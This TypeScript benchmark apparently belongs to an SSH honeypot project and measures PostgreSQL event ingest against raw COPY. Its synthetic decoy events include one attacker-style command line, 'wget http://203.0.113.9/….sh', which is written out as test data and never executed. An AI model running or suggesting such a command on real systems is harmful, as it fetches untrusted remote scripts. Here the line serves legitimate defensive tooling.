/**
 * Events into PostgreSQL: the ingest of the core, checked, idempotent and in order of position, against raw COPY of the same rows
 * into a table of the same columns, indexes and day partition, on the same embedded server, in turns. On a machine with other work rates
 * swing; processor time of all processes together (Node, server, psql) swings less and bounds what two cores can do.
 */
import { execFile } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { pipeline } from 'node:stream/promises'
import { Readable } from 'node:stream'
import { promisify } from 'node:util'
import type { SensorEvent } from '@shenlou/contract/event'
import { createCore } from '@shenlou/core/core'
import { ingestBatch, startIngest } from '@shenlou/core/ingest/ingest'
import { connect, openDatabase } from '@shenlou/core/store/database'
import { uuidv7 } from '@shenlou/link/uuid'
import { treeCpuMs } from './process-cost.ts'
import { median, type Row } from './row.ts'

const batch = 1000
const batches = 40
const rounds = 3
const sensor = { id: uuidv7(), scope: 'group/machinery/park-1', role: 'decoys' as const }

/** What a busy SSH decoy says: logins, commands and terminal output, about 400 bytes of body each. */
function makeEvents(first: number, count: number): SensorEvent[] {
  const session = uuidv7()
  const base = {
    session,
    connection: session,
    decoy: 'erp-1',
    service: 'ssh',
    source: { ip: `203.0.113.${first % 250}`, port: 40_000 },
    destination: { ip: '10.1.2.3', port: 22 },
  }
  return Array.from({ length: count }, (_, index) => {
    const seq = first + index
    const kinds = [
      ['login.attempted', { method: 'password', user: 'root', password: `password ${seq} ${'p'.repeat(300)}`, outcome: 'refused' }],
      ['command.executed', { mode: 'shell', input: `wget http://203.0.113.9/${seq}.sh; ${'x'.repeat(300)}`, user: 'root', directory: '/root' }],
      ['terminal.data', { stream: 'output', data: Buffer.from(`${seq} `.repeat(40)).toString('base64') }],
    ] as const
    const [kind, body] = kinds[seq % kinds.length] as (typeof kinds)[number]
    return { id: uuidv7(), time: Date.now(), seq, ...base, kind, body }
  })
}

const escaped = (text: string): string => text.replace(/\\/g, '\\\\').replace(/\t/g, '\\t').replace(/\n/g, '\\n')
const copyLine = (event: SensorEvent, position: number, epoch: string): string =>
  [
    position,
    event.id,
    new Date(event.time).toISOString(),
    '\\N',
    new Date().toISOString(),
    sensor.id,
    epoch,
    event.seq,
    sensor.scope,
    event.kind,
    event.connection,
    event.session,
    event.decoy,
    event.service,
    event.source?.ip,
    event.source?.port,
    event.destination?.ip,
    event.destination?.port,
    '\\N',
    escaped(JSON.stringify(event.body)),
  ].join('\t')

interface Measured {
  /** Events a second. */
  rate: number
  /** Processor time of this process and all below it: µs an event. */
  cpu: number
}
/** Starts the clocks; the answer stops them. */
function measured(): () => Measured {
  const cpu = treeCpuMs(process.pid)
  const began = performance.now()
  return () => ({ rate: (batch * batches * 1000) / (performance.now() - began), cpu: ((treeCpuMs(process.pid) - cpu) * 1000) / (batch * batches) })
}

export async function run(): Promise<Row[]> {
  // The embedded package has no psql; the system's is the fastest client of COPY where there is one.
  const psql = await promisify(execFile)('psql', ['--version']).then(
    () => true,
    () => false,
  )
  const dataDir = await mkdtemp(path.join(tmpdir(), 'shenlou-bench-'))
  const stop = new AbortController()
  const database = await openDatabase({ dataDir }, stop.signal)
  try {
    const core = await createCore({ sql: database.sql, dataDir, signal: stop.signal })
    await startIngest(core)
    const copying = connect(database.url, { max: 1 })
    const day = new Date().toISOString().slice(0, 10)
    const next = new Date(Date.parse(day) + 86_400_000).toISOString().slice(0, 10)
    let position = 0

    const fresh = async (): Promise<void> => {
      await database.sql`truncate event, sensor_range`
      await database.sql`drop table if exists raw_event`
      await database.sql`create table raw_event (like event including all) partition by range (time)`
      await database.sql.unsafe(`create table raw_event_today partition of raw_event for values from ('${day}') to ('${next}')`)
      await database.sql`checkpoint`
    }
    const rawCopy = async (): Promise<Measured> => {
      // Ready lines, as a file would hold them: only the server's work and the sending are measured.
      const chunks = Array.from({ length: batches }, (_, index) => {
        const epoch = randomUUID()
        return `${makeEvents(index * batch + 1, batch)
          .map((event) => copyLine(event, ++position, epoch))
          .join('\n')}\n`
      })
      if (psql) {
        const file = path.join(dataDir, 'rows.sql')
        await writeFile(file, chunks.map((chunk) => `copy raw_event from stdin;\n${chunk}\\.\n`).join(''))
        const took = measured()
        await promisify(execFile)('psql', [
          '-q',
          '-h',
          new URL(database.url).searchParams.get('host') as string,
          '-U',
          'shenlou',
          '-d',
          'postgres',
          '-v',
          'ON_ERROR_STOP=1',
          '-f',
          file,
        ])
        return took()
      }
      const took = measured()
      for (const chunk of chunks) await pipeline(Readable.from([chunk]), await copying`copy raw_event from stdin`.writable())
      return took()
    }
    const ingest = async (streams: number): Promise<Measured & { node: number; p99: number }> => {
      const epochs = Array.from({ length: streams }, () => randomUUID())
      // As they come from the door: parsed JSON.
      const work = epochs.map((epoch, stream) =>
        Array.from({ length: batches / streams }, (_, index) => ({
          sensor: { ...sensor, id: epoch },
          epoch,
          first: index * batch + 1,
          events: makeEvents(index * batch + 1, batch),
          stream,
        })),
      )
      const times: number[] = []
      const cpu = process.cpuUsage()
      const took = measured()
      await Promise.all(
        work.map(async (list) => {
          for (const each of list) {
            const started = performance.now()
            const { committed, rejected } = await ingestBatch(core, each)
            if (rejected > 0 || committed !== each.first + batch - 1) throw new Error(`committed ${committed} and rejected ${rejected} at ${each.first}`)
            times.push(performance.now() - started)
          }
        }),
      )
      const all = took()
      const used = process.cpuUsage(cpu)
      times.sort((a, b) => a - b)
      return { ...all, node: (used.user + used.system) / (batch * batches), p99: times[Math.floor(times.length * 0.99)] ?? 0 }
    }
    const figures = { copy: [] as Measured[], one: [] as Measured[], two: [] as (Measured & { node: number; p99: number })[] }
    for (let round = 0; round <= rounds; round++) {
      await fresh()
      const copy = await rawCopy()
      const one = await ingest(1)
      const two = await ingest(2)
      // The first round warms server and code.
      if (round === 0) continue
      figures.copy.push(copy)
      figures.one.push(one)
      figures.two.push(two)
    }
    await copying.end()
    const rate = (list: Measured[]): number => median(list.map((each) => each.rate))
    const cost = (list: Measured[]): number => median(list.map((each) => each.cpu))
    const copy = rate(figures.copy)
    const against = { name: `raw COPY by ${psql ? 'psql' : 'postgres.js'}, ${batch} rows a commit`, value: copy }
    const row = (what: string, value: number, target?: number): Row => ({
      what,
      value,
      unit: 'events/s',
      against,
      ratio: value / copy,
      ...(target !== undefined && { target: `>= ${target} x`, met: value / copy >= target }),
    })
    return [
      row('ingest, checked and idempotent, one connection', rate(figures.one)),
      {
        ...row('ingest, checked and idempotent, two connections', rate(figures.two), 0.9),
        note: `RSS ${Math.round(process.memoryUsage.rss() / 1_048_576)} MiB`,
      },
      {
        what: 'ingest, processor time of all processes, two connections',
        value: cost(figures.two),
        unit: 'µs an event',
        against: { name: against.name, value: cost(figures.copy) },
        ratio: cost(figures.copy) / cost(figures.two),
        note: `of it Node ${median(figures.two.map(({ node }) => node)).toFixed(1)} µs`,
      },
      { what: `ingest, a batch of ${batch}, p99`, value: median(figures.two.map(({ p99 }) => p99)), unit: 'ms' },
    ]
  } finally {
    stop.abort()
    await database.close()
    await rm(dataDir, { recursive: true, force: true })
  }
}
